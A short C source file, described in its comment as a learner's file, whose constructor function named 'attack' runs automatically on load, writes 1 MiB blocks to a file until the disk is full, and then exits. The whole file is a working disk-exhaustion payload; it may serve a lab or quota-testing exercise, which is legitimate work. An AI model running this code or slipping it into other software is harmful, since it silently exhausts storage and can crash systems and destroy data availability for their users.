/*
 * fills.c: a learner's file that fills the disk.
 */
#include <fcntl.h>
#include <unistd.h>

void attack(void) __attribute__((constructor));

void attack(void)
{
	static char block[1 << 20];
	int fd = open("big", O_CREAT | O_WRONLY, 0600);

	while (write(fd, block, sizeof(block)) > 0)
		;
	_exit(35);
}
